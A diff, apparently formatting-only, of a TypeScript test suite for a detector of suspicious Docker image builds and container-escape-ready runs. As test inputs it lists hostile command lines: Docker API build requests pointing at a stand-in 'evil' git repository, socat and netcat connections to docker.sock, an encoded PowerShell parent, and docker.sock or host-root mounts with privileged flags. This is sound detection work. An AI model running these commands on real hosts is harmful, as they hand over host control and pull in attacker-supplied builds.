@@ -6,8 +6,16 @@ import { detect, ModelEvent, makeDetectOptions } from '../../src/detection/model
 import { tokenize } from '../../src/detection/model/tokenize';
 import { collectExecs } from '../../src/detection/model/unwrap';
 
-const words = (s: string, win = false): string[] => tokenize(s, win).filter((t) => t.kind === 'word').map((t) => t.value);
-const ev = (process: string, extra: Partial<ModelEvent> = {}): ModelEvent => ({ t1612_source: 'test', event_kind: 'process', process, ...extra });
+const words = (s: string, win = false): string[] =>
+  tokenize(s, win)
+    .filter((t) => t.kind === 'word')
+    .map((t) => t.value);
+const ev = (process: string, extra: Partial<ModelEvent> = {}): ModelEvent => ({
+  t1612_source: 'test',
+  event_kind: 'process',
+  process,
+  ...extra,
+});
 const act = (process: string, extra: Partial<ModelEvent> = {}): string => detect(ev(process, extra)).t1612_activity;
 
 describe('tokeniser', () => {
@@ -20,17 +28,30 @@ describe('tokeniser', () => {
   it('POSIX operators and redirections are not words', () => {
     const t = tokenize('cd /tmp&&docker build -f- . </tmp/Dockerfile 2>&1|tee x; echo ok', false);
     expect(t.filter((x) => x.kind === 'op').map((x) => x.value)).toEqual(['&&', '|', ';']);
-    expect(t.filter((x) => x.kind === 'redir').map((x) => [x.value, x.target])).toEqual([['<', '/tmp/Dockerfile'], ['2>&', '1']]);
+    expect(t.filter((x) => x.kind === 'redir').map((x) => [x.value, x.target])).toEqual([
+      ['<', '/tmp/Dockerfile'],
+      ['2>&', '1'],
+    ]);
   });
 
   it.each([
-    [`"C:\\Program Files\\Docker\\Docker\\resources\\bin\\docker.exe"  build -t x C:\\Users\\u\\AppData\\Local\\Temp\\x`, ['C:\\Program Files\\Docker\\Docker\\resources\\bin\\docker.exe', 'build', '-t', 'x', 'C:\\Users\\u\\AppData\\Local\\Temp\\x']],
+    [
+      `"C:\\Program Files\\Docker\\Docker\\resources\\bin\\docker.exe"  build -t x C:\\Users\\u\\AppData\\Local\\Temp\\x`,
+      [
+        'C:\\Program Files\\Docker\\Docker\\resources\\bin\\docker.exe',
+        'build',
+        '-t',
+        'x',
+        'C:\\Users\\u\\AppData\\Local\\Temp\\x',
+      ],
+    ],
     [`docker.exe build "C:\\dir with space\\\\" "a\\"b"`, ['docker.exe', 'build', 'C:\\dir with space\\', 'a"b']],
   ])('Windows %s', (line, want) => expect(words(line, true)).toEqual(want));
 });
 
 describe('unwrapping', () => {
-  const argvs = (line: string, cwd?: string) => collectExecs(line, false, cwd).map((e) => [e.argv.join(' '), e.cwd ?? '']);
+  const argvs = (line: string, cwd?: string) =>
+    collectExecs(line, false, cwd).map((e) => [e.argv.join(' '), e.cwd ?? '']);
   it.each([
     ['sudo -u root -E docker build .', 'docker build .'],
     ['sudo -D /tmp/x docker build .', 'docker build .'],
@@ -133,11 +154,13 @@ describe('build recognition from argv', () => {
     'man docker-build',
     'cat /tmp/docker/build.log',
     'git commit -m "docker build fix"',
-    "bash -c 'grep \"docker build\" /tmp/x'",
+    'bash -c \'grep "docker build" /tmp/x\'',
     'executor --help',
     'mydocker build .',
     'docker-buildx version',
-  ])('is not a build: %s', (line) => expect(detect(ev(line, { process_current_directory: '/tmp' })).is_docker_build).toBe(0));
+  ])('is not a build: %s', (line) =>
+    expect(detect(ev(line, { process_current_directory: '/tmp' })).is_docker_build).toBe(0),
+  );
 });
 
 describe('from_temp', () => {
@@ -153,12 +176,28 @@ describe('from_temp', () => {
     ['docker build --file=/dev/shm/D .', '/home/u', 'Dockerfile in /dev/shm: /dev/shm/D'],
     ['docker build --file /var/tmp/D .', '/home/u', 'Dockerfile in /var/tmp: /var/tmp/D'],
     ['docker build -f D .', '/tmp/w', 'Dockerfile in /tmp: /tmp/w/D ("D" in cwd /tmp/w)'],
-    ['docker.exe build -t x C:\\Users\\u\\AppData\\Local\\Temp\\x', undefined, 'context in %TEMP%: C:\\Users\\u\\AppData\\Local\\Temp\\x'],
-    ['docker.exe build -t x .', 'C:\\Windows\\Temp\\b', 'context in \\Windows\\Temp: C:\\Windows\\Temp\\b ("." in cwd C:\\Windows\\Temp\\b)'],
+    [
+      'docker.exe build -t x C:\\Users\\u\\AppData\\Local\\Temp\\x',
+      undefined,
+      'context in %TEMP%: C:\\Users\\u\\AppData\\Local\\Temp\\x',
+    ],
+    [
+      'docker.exe build -t x .',
+      'C:\\Windows\\Temp\\b',
+      'context in \\Windows\\Temp: C:\\Windows\\Temp\\b ("." in cwd C:\\Windows\\Temp\\b)',
+    ],
     ["bash -c 'cd /tmp/x && docker build .'", '/home/u', 'context in /tmp: /tmp/x ("." in cwd /tmp/x)'],
     ['podman build -t x /tmp/x', undefined, 'context in /tmp: /tmp/x'],
-    ['buildctl build --frontend dockerfile.v0 --local context=/tmp/c --local dockerfile=/home/u', undefined, 'context in /tmp: /tmp/c'],
-    ['/kaniko/executor --context=dir:///tmp/k --dockerfile=Dockerfile', undefined, 'Dockerfile in /tmp: /tmp/k/Dockerfile ("Dockerfile" in cwd /tmp/k)'],
+    [
+      'buildctl build --frontend dockerfile.v0 --local context=/tmp/c --local dockerfile=/home/u',
+      undefined,
+      'context in /tmp: /tmp/c',
+    ],
+    [
+      '/kaniko/executor --context=dir:///tmp/k --dockerfile=Dockerfile',
+      undefined,
+      'Dockerfile in /tmp: /tmp/k/Dockerfile ("Dockerfile" in cwd /tmp/k)',
+    ],
     ['docker compose -f /tmp/c/compose.yml build', '/home/u', 'compose file in /tmp: /tmp/c/compose.yml'],
   ])('fires: %s (cwd %s)', (line, cwd, reason) => {
     const d = r(line, cwd);
@@ -181,13 +220,21 @@ describe('from_temp', () => {
 });
 
 describe('no_cache', () => {
-  it.each(['docker build --no-cache .', 'docker build --no-cache=true .', 'podman build --no-cache .', 'buildah bud --no-cache .', 'docker compose build --no-cache', 'buildctl build --no-cache --local context=.', 'docker buildx build --no-cache-filter base .'])(
-    'fires: %s',
-    (line) => expect(detect(ev(line)).no_cache).toBe(1),
-  );
-  it.each(['docker build --no-cache=false .', 'docker build -t no-cache .', 'docker build --pull .', "docker run alpine echo --no-cache"])('does not fire: %s', (line) =>
-    expect(detect(ev(line)).no_cache).toBe(0),
-  );
+  it.each([
+    'docker build --no-cache .',
+    'docker build --no-cache=true .',
+    'podman build --no-cache .',
+    'buildah bud --no-cache .',
+    'docker compose build --no-cache',
+    'buildctl build --no-cache --local context=.',
+    'docker buildx build --no-cache-filter base .',
+  ])('fires: %s', (line) => expect(detect(ev(line)).no_cache).toBe(1));
+  it.each([
+    'docker build --no-cache=false .',
+    'docker build -t no-cache .',
+    'docker build --pull .',
+    'docker run alpine echo --no-cache',
+  ])('does not fire: %s', (line) => expect(detect(ev(line)).no_cache).toBe(0));
 });
 
 describe('external_file', () => {
@@ -200,17 +247,27 @@ describe('external_file', () => {
     ['docker build --file https://x/Dockerfile .', 'remote Dockerfile: https://x/Dockerfile'],
     ['docker build -f=https://x/Dockerfile .', 'remote Dockerfile: https://x/Dockerfile'],
     ['docker build -f HTTP://X/Dockerfile .', 'remote Dockerfile: HTTP://X/Dockerfile'],
-    ['buildctl build --frontend dockerfile.v0 --opt context=https://github.com/o/r.git', 'remote context: --opt context=https://github.com/o/r.git'],
-    ['/kaniko/executor --context=git://github.com/o/r.git --destination=r/x', 'remote context: git://github.com/o/r.git'],
+    [
+      'buildctl build --frontend dockerfile.v0 --opt context=https://github.com/o/r.git',
+      'remote context: --opt context=https://github.com/o/r.git',
+    ],
+    [
+      '/kaniko/executor --context=git://github.com/o/r.git --destination=r/x',
+      'remote context: git://github.com/o/r.git',
+    ],
     ['/kaniko/executor --context=s3://bucket/ctx.tar.gz', 'remote context: s3://bucket/ctx.tar.gz'],
   ])('fires: %s', (line, reason) => {
     const d = detect(ev(line, { process_current_directory: '/home/u' }));
     expect(d.external_file).toBe(1);
     expect(d.t1612_reasons).toContain(reason);
   });
-  it.each(['docker build -t registry.example.com/x:1 .', 'docker build --build-arg URL=https://x/y .', 'docker build --label src=https://github.com/o/r .', 'docker build ./repo.git'])(
-    'does not fire: %s',
-    (line) => expect(detect(ev(line, { process_current_directory: '/home/u' })).external_file).toBe(0),
+  it.each([
+    'docker build -t registry.example.com/x:1 .',
+    'docker build --build-arg URL=https://x/y .',
+    'docker build --label src=https://github.com/o/r .',
+    'docker build ./repo.git',
+  ])('does not fire: %s', (line) =>
+    expect(detect(ev(line, { process_current_directory: '/home/u' })).external_file).toBe(0),
   );
 });
 
@@ -232,14 +289,21 @@ describe('stdin_dockerfile', () => {
     expect(d.from_temp).toBe(1);
     expect(d.t1612_reasons[0]).toBe('Dockerfile (stdin) in /tmp: /tmp/x/Dockerfile');
   });
-  it.each(['docker build -f Dockerfile.dev .', 'docker build --iidfile - .', 'docker run -i alpine sh -'])('does not fire: %s', (line) =>
-    expect(detect(ev(line, { process_current_directory: '/home/u' })).stdin_dockerfile).toBe(0),
+  it.each(['docker build -f Dockerfile.dev .', 'docker build --iidfile - .', 'docker run -i alpine sh -'])(
+    'does not fire: %s',
+    (line) => expect(detect(ev(line, { process_current_directory: '/home/u' })).stdin_dockerfile).toBe(0),
   );
 });
 
 describe('suspicious_parent (exact basenames, never substrings)', () => {
   const withParent = (parent_process: string | undefined, parent_process_name?: string) =>
-    detect(ev('docker build -t web:1.4 .', { process_current_directory: '/home/alice/web', parent_process, parent_process_name }));
+    detect(
+      ev('docker build -t web:1.4 .', {
+        process_current_directory: '/home/alice/web',
+        parent_process,
+        parent_process_name,
+      }),
+    );
   it.each([
     ['bash /opt/deploy.sh', undefined],
     ['/bin/sh -c docker build -t web:1.4 .', undefined],
@@ -255,7 +319,10 @@ describe('suspicious_parent (exact basenames, never substrings)', () => {
     ['wget -O- http://x', undefined],
     ['su app -c "docker build ."', undefined],
     ['cmd.exe /c build.cmd', 'C:\\Windows\\System32\\cmd.exe'],
-    ['powershell.exe -EncodedCommand ZABvAGMAawBlAHIA', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'],
+    [
+      'powershell.exe -EncodedCommand ZABvAGMAawBlAHIA',
+      'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+    ],
   ])('fires: parent %s (%s)', (p, n) => {
     const d = withParent(p, n);
     expect(d.suspicious_parent).toBe(1);
@@ -291,14 +358,17 @@ describe('suspicious_parent (exact basenames, never substrings)', () => {
 describe('API builds', () => {
   it.each([
     ['curl --unix-socket /var/run/docker.sock -X POST "http://localhost/v1.43/build?t=evil&nocache=1"', 5],
-    ['curl -s --unix-socket /run/docker.sock -XPOST -H "Content-Type: application/x-tar" --data-binary @/home/u/c.tar http:/v1.41/build', 4],
+    [
+      'curl -s --unix-socket /run/docker.sock -XPOST -H "Content-Type: application/x-tar" --data-binary @/home/u/c.tar http:/v1.41/build',
+      4,
+    ],
     ['curl -X POST http://10.0.0.5:2375/build?remote=https://evil/x.git', 8],
     ['curl -X POST 10.0.0.5:2376/v1.41/build', 4],
     ['curl -T /tmp/ctx.tar https://dockerhost.example/v1.41/build?t=x', 7],
     ['socat - UNIX-CONNECT:/var/run/docker.sock', 4],
     ['nc -U /var/run/docker.sock', 4],
     ['ncat 10.0.0.5 2375', 4],
-    ["sh -c 'echo -e \"POST /v1.41/build HTTP/1.1\\r\\n\" | socat - UNIX-CLIENT:/var/run/docker.sock'", 6],
+    ['sh -c \'echo -e "POST /v1.41/build HTTP/1.1\\r\\n" | socat - UNIX-CLIENT:/var/run/docker.sock\'', 6],
   ])('fires: %s (risk %d)', (line, risk) => {
     const d = detect(ev(line, { process_current_directory: '/home/u' }));
     expect(d.t1612_activity).toBe('api_build');
@@ -308,7 +378,11 @@ describe('API builds', () => {
     expect(d.alert_detail).toBeDefined();
   });
   it('API query: nocache → no_cache, remote= → external_file, client-session is not remote', () => {
-    const d = detect(ev('curl --unix-socket /var/run/docker.sock -X POST "http://x/v1.41/build?remote=client-session&session=abc&version=2"'));
+    const d = detect(
+      ev(
+        'curl --unix-socket /var/run/docker.sock -X POST "http://x/v1.41/build?remote=client-session&session=abc&version=2"',
+      ),
+    );
     expect([d.api_build, d.external_file, d.no_cache]).toEqual([1, 0, 0]);
     expect(d.alert_detail).toBe('HIGH: Image build sent straight to the Docker API');
   });
@@ -323,20 +397,49 @@ describe('API builds', () => {
   ])('does not fire: %s', (line) => expect(detect(ev(line)).api_build).toBe(0));
 
   it('auditd socket connect to docker.sock: by a non-docker executable fires, by docker/dockerd/buildx does not', () => {
-    const sock = (process_path: string, process_name: string): ModelEvent => ({ t1612_source: 't', event_kind: 'socket_connect', socket_path: '/var/run/docker.sock', process_path, process_name });
+    const sock = (process_path: string, process_name: string): ModelEvent => ({
+      t1612_source: 't',
+      event_kind: 'socket_connect',
+      socket_path: '/var/run/docker.sock',
+      process_path,
+      process_name,
+    });
     expect(detect(sock('/usr/bin/python3.11', 'python3')).api_build).toBe(1);
-    expect(detect(sock('/tmp/.x/kdevtmpfsi', 'kdevtmpfsi')).t1612_reasons).toEqual(['docker.sock connect by non-docker client /tmp/.x/kdevtmpfsi: /var/run/docker.sock']);
-    for (const [p, n] of [['/usr/bin/docker', 'docker'], ['/usr/sbin/dockerd', 'exe'], ['/usr/libexec/docker/cli-plugins/docker-buildx', 'docker-buildx'], ['/usr/bin/containerd-shim-runc-v2', 'containerd-shim']]) {
+    expect(detect(sock('/tmp/.x/kdevtmpfsi', 'kdevtmpfsi')).t1612_reasons).toEqual([
+      'docker.sock connect by non-docker client /tmp/.x/kdevtmpfsi: /var/run/docker.sock',
+    ]);
+    for (const [p, n] of [
+      ['/usr/bin/docker', 'docker'],
+      ['/usr/sbin/dockerd', 'exe'],
+      ['/usr/libexec/docker/cli-plugins/docker-buildx', 'docker-buildx'],
+      ['/usr/bin/containerd-shim-runc-v2', 'containerd-shim'],
+    ]) {
       expect(detect(sock(p, n)).t1612_activity).toBe('none');
     }
-    expect(detect({ t1612_source: 't', event_kind: 'socket_connect', socket_path: '/dev/log', process_path: '/usr/bin/curl' }).t1612_activity).toBe('none');
+    expect(
+      detect({
+        t1612_source: 't',
+        event_kind: 'socket_connect',
+        socket_path: '/dev/log',
+        process_path: '/usr/bin/curl',
+      }).t1612_activity,
+    ).toBe('none');
   });
 
   it('dockerd POST /v<N>/build fires; /build/prune, GET /build and /session do not', () => {
-    const api = (m: string, p: string, q?: string): ModelEvent => ({ t1612_source: 't', event_kind: 'docker_api', docker_api_method: m, docker_api_path: p, docker_api_query: q });
+    const api = (m: string, p: string, q?: string): ModelEvent => ({
+      t1612_source: 't',
+      event_kind: 'docker_api',
+      docker_api_method: m,
+      docker_api_path: p,
+      docker_api_query: q,
+    });
     const d = detect(api('POST', '/v1.41/build', 't=x&remote=http%3A%2F%2F127.0.0.1%3A9%2FDockerfile'));
     expect([d.api_build, d.external_file, d.risk_score]).toEqual([1, 1, 8]);
-    expect(d.t1612_reasons).toEqual(['remote context (API remote=): http://127.0.0.1:9/Dockerfile', 'dockerd build request: POST /v1.41/build?t=x&remote=http%3A%2F%2F127.0.0.1%3A9%2FDockerfile']);
+    expect(d.t1612_reasons).toEqual([
+      'remote context (API remote=): http://127.0.0.1:9/Dockerfile',
+      'dockerd build request: POST /v1.41/build?t=x&remote=http%3A%2F%2F127.0.0.1%3A9%2FDockerfile',
+    ]);
     expect(d.CommandLine).toBe('POST /v1.41/build?t=x&remote=http%3A%2F%2F127.0.0.1%3A9%2FDockerfile');
     expect(detect(api('POST', '/build')).api_build).toBe(1);
     expect(detect(api('POST', '/v1.41/build/prune', 'filters=')).t1612_activity).toBe('none');
@@ -345,7 +448,13 @@ describe('API builds', () => {
   });
 
   it('network connection to 2375 by a non-docker process fires; by docker.exe does not', () => {
-    const net = (p: string, port: string): ModelEvent => ({ t1612_source: 't', event_kind: 'network', process_path: p, dest_ip: '10.0.0.5', dest_port: port });
+    const net = (p: string, port: string): ModelEvent => ({
+      t1612_source: 't',
+      event_kind: 'network',
+      process_path: p,
+      dest_ip: '10.0.0.5',
+      dest_port: port,
+    });
     expect(detect(net('/usr/bin/python3', '2375')).api_build).toBe(1);
     expect(detect(net('C:\\Program Files\\Docker\\docker.exe', '2375')).api_build).toBe(0);
     expect(detect(net('/usr/bin/python3', '443')).api_build).toBe(0);
@@ -354,11 +463,31 @@ describe('API builds', () => {
 
 describe('escape-ready runs', () => {
   it.each([
-    ['docker run -v /var/run/docker.sock:/var/run/docker.sock alpine', 'socket_mount', 'docker.sock mounted: -v /var/run/docker.sock:/var/run/docker.sock'],
-    ['docker run --volume=/run/docker.sock:/s alpine', 'socket_mount', 'docker.sock mounted: --volume=/run/docker.sock:/s'],
-    ['docker container create --mount type=bind,source=/var/run/docker.sock,target=/d alpine', 'socket_mount', 'docker.sock mounted: --mount type=bind,source=/var/run/docker.sock,target=/d'],
-    ['podman run --mount=type=bind,src=/run/docker.sock,dst=/d alpine', 'socket_mount', 'docker.sock mounted: --mount=type=bind,src=/run/docker.sock,dst=/d'],
-    ['nerdctl run -v /var/run:/var/run alpine', 'socket_mount', 'host /var/run mounted (holds docker.sock): -v /var/run:/var/run'],
+    [
+      'docker run -v /var/run/docker.sock:/var/run/docker.sock alpine',
+      'socket_mount',
+      'docker.sock mounted: -v /var/run/docker.sock:/var/run/docker.sock',
+    ],
+    [
+      'docker run --volume=/run/docker.sock:/s alpine',
+      'socket_mount',
+      'docker.sock mounted: --volume=/run/docker.sock:/s',
+    ],
+    [
+      'docker container create --mount type=bind,source=/var/run/docker.sock,target=/d alpine',
+      'socket_mount',
+      'docker.sock mounted: --mount type=bind,source=/var/run/docker.sock,target=/d',
+    ],
+    [
+      'podman run --mount=type=bind,src=/run/docker.sock,dst=/d alpine',
+      'socket_mount',
+      'docker.sock mounted: --mount=type=bind,src=/run/docker.sock,dst=/d',
+    ],
+    [
+      'nerdctl run -v /var/run:/var/run alpine',
+      'socket_mount',
+      'host /var/run mounted (holds docker.sock): -v /var/run:/var/run',
+    ],
     ['docker run -it --privileged alpine sh', 'privileged_run', 'privileged: --privileged'],
     ['docker run --pid=host alpine', 'privileged_run', 'host PID namespace: --pid=host'],
     ['docker run --pid host alpine', 'privileged_run', 'host PID namespace: --pid host'],
@@ -389,17 +518,30 @@ describe('escape-ready runs', () => {
   });
 
   it('dockerd containers/create form data: Privileged / PidMode / host root / Mounts; plain form is nothing', () => {
-    const form = (f: object | string): ModelEvent => ({ t1612_source: 't', event_kind: 'docker_api', docker_api_form: typeof f === 'string' ? f : JSON.stringify(f) });
+    const form = (f: object | string): ModelEvent => ({
+      t1612_source: 't',
+      event_kind: 'docker_api',
+      docker_api_form: typeof f === 'string' ? f : JSON.stringify(f),
+    });
     expect(detect(form({ Image: 'x', HostConfig: { Privileged: true } })).privileged_run).toBe(1);
     expect(detect(form({ HostConfig: { PidMode: 'host' } })).privileged_run).toBe(1);
-    expect(detect(form({ HostConfig: { Binds: ['/:/host'] } })).t1612_reasons).toEqual(['host root mounted: dockerd containers/create Binds /:/host']);
-    expect(detect(form({ HostConfig: { Mounts: [{ Type: 'bind', Source: '/var/run/docker.sock', Target: '/s' }] } })).socket_mount).toBe(1);
+    expect(detect(form({ HostConfig: { Binds: ['/:/host'] } })).t1612_reasons).toEqual([
+      'host root mounted: dockerd containers/create Binds /:/host',
+    ]);
+    expect(
+      detect(form({ HostConfig: { Mounts: [{ Type: 'bind', Source: '/var/run/docker.sock', Target: '/s' }] } }))
+        .socket_mount,
+    ).toBe(1);
     expect(detect(form('{"HostConfig":{"Binds":["/var/run/docker.sock:/s"],"Privileged":tr')).socket_mount).toBe(1); // truncated JSON
     expect(detect(form({ HostConfig: { Binds: ['/home/u:/w'], Privileged: false } })).t1612_activity).toBe('none');
   });
 
   it('curl to containers/create with a socket bind in the body is a run', () => {
-    const d = detect(ev(`curl --unix-socket /var/run/docker.sock -H 'Content-Type: application/json' -d '{"Image":"x","HostConfig":{"Binds":["/var/run/docker.sock:/s"]}}' http://localhost/v1.41/containers/create`));
+    const d = detect(
+      ev(
+        `curl --unix-socket /var/run/docker.sock -H 'Content-Type: application/json' -d '{"Image":"x","HostConfig":{"Binds":["/var/run/docker.sock:/s"]}}' http://localhost/v1.41/containers/create`,
+      ),
+    );
     expect(d.t1612_activity).toBe('run');
     expect(d.socket_mount).toBe(1);
   });
@@ -415,17 +557,28 @@ describe('scoring, alert texts, options', () => {
     expect(() => makeDetectOptions({ weights: { api_build: Number.NaN } })).toThrow();
   });
   it('new signals alone: api_build alerts by itself; socket_mount, privileged_run and stdin too at the default threshold', () => {
-    expect(detect(ev('socat - UNIX-CONNECT:/var/run/docker.sock')).alert_detail).toBe('HIGH: Image build sent straight to the Docker API');
+    expect(detect(ev('socat - UNIX-CONNECT:/var/run/docker.sock')).alert_detail).toBe(
+      'HIGH: Image build sent straight to the Docker API',
+    );
     expect(detect(ev('docker build -f - /srv/app')).alert_detail).toBe('MEDIUM: Dockerfile read from stdin');
-    expect(detect(ev('docker build -f - /srv/app', { parent_process: 'python3 x.py' })).alert_detail).toBe('HIGH: Dockerfile piped from stdin by shell/script');
-    expect(detect(ev('docker run --privileged x')).alert_detail).toBe('HIGH: Privileged container run with host access');
+    expect(detect(ev('docker build -f - /srv/app', { parent_process: 'python3 x.py' })).alert_detail).toBe(
+      'HIGH: Dockerfile piped from stdin by shell/script',
+    );
+    expect(detect(ev('docker run --privileged x')).alert_detail).toBe(
+      'HIGH: Privileged container run with host access',
+    );
   });
   it('a no-cache build from a script gets the seed text; --no-cache alone does not alert', () => {
-    expect(detect(ev('docker build --no-cache /srv/app', { parent_process: 'bash ci.sh' })).alert_detail).toBe('MEDIUM: No-cache build from suspicious parent');
+    expect(detect(ev('docker build --no-cache /srv/app', { parent_process: 'bash ci.sh' })).alert_detail).toBe(
+      'MEDIUM: No-cache build from suspicious parent',
+    );
     expect(detect(ev('docker build --no-cache /srv/app')).alert_detail).toBeUndefined();
   });
   it('non-process kinds without docker evidence are skipped; no process → none', () => {
-    expect(detect({ t1612_source: 't', event_kind: 'file', process: 'docker build /tmp/x', file_path: '/tmp/x/Dockerfile' }).t1612_activity).toBe('none');
+    expect(
+      detect({ t1612_source: 't', event_kind: 'file', process: 'docker build /tmp/x', file_path: '/tmp/x/Dockerfile' })
+        .t1612_activity,
+    ).toBe('none');
     expect(detect({ t1612_source: 'none:x' }).t1612_activity).toBe('none');
   });
 });
